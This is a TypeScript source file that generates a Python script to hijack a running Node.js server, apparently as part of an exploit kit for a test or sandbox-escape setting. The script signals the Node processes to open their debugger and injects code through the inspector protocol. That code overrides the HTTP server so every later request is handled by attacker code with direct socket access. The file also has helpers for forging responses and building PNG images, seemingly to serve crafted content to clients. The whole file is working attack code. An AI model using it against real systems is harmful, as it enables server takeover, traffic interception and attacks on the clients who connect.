import { serverPids } from './payload.ts';

/**
 * Python code that takes over the control server. Node opens its debugger on root's SIGUSR1, which runs `script` in the
 * server. The script sets `answer` to handle every later request and response. Other ways are blocked: the filter
 * rejects `pidfd_getfd`.
 */
export const impostorBy = (script: string): string => `${serverPids}
import json, os, signal, socket, struct, time, urllib.request
script = ${JSON.stringify(`(() => {
const http = process.getBuiltinModule('node:http'), zlib = process.getBuiltinModule('node:zlib');
const emit = http.Server.prototype.emit;
let answer = () => {};
${script}
http.Server.prototype.emit = function (name, request, response) {
  if (name !== 'request') return emit.apply(this, arguments);
  request.resume().once('end', () => answer(request, response));
  request.socket.on('error', () => {});
  return true;
};
return 'taken';
})()`)}
for pid in servers:
    name = os.readlink('/proc/%d/exe' % pid)
    if 'node' in name: os.kill(pid, signal.SIGUSR1)
for turn in range(100):
    try: targets = json.load(urllib.request.urlopen('http://127.0.0.1:9229/json', timeout=5)); break
    except OSError: time.sleep(0.1)
debugger = socket.create_connection(('127.0.0.1', 9229))
debugger.sendall(b'GET /%s HTTP/1.1\\r\\nHost: 127.0.0.1:9229\\r\\nUpgrade: websocket\\r\\nConnection: Upgrade\\r\\nSec-WebSocket-Version: 13\\r\\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\\r\\n\\r\\n' % targets[0]['id'].encode())
debugger.recv(65536)
words = json.dumps({'id': 1, 'method': 'Runtime.evaluate', 'params': {'expression': script, 'returnByValue': True}}).encode()
debugger.sendall(b'\\x81\\xff' + struct.pack('>Q', len(words)) + bytes(4) + words)
print(debugger.recv(65536)[-300:])`;

/** Handles every request with the same code. `act` accesses the client's socket as `client`. */
export const impostor = (act: string): string =>
  impostorBy(`answer = (request) => { const client = request.socket; ${act} };`);

export const wholeAnswer = (body: string): string =>
  `const body = Buffer.from(${body}); client.write('HTTP/1.1 200 OK\\r\\nContent-Length: ' + body.length + '\\r\\n\\r\\n'); client.end(body);`;

/** JavaScript that builds PNGs from `chunk(KIND, BYTES)` and `picture(WIDTH, HEIGHT, REST)`. */
export const pictures = `
const chunk = (kind, data) => {
  const named = Buffer.concat([Buffer.from(kind), data]);
  const out = Buffer.alloc(8 + named.length);
  out.writeUInt32BE(data.length, 0); named.copy(out, 4); out.writeUInt32BE(zlib.crc32(named), 4 + named.length);
  return out;
};
const head = (width, height, bits, kind) => {
  const data = Buffer.alloc(13);
  data.writeUInt32BE(width, 0); data.writeUInt32BE(height, 4); data[8] = bits; data[9] = kind;
  return Buffer.concat([Buffer.from([137, 80, 78, 71, 13, 10, 26, 10]), chunk('IHDR', data)]);
};`;
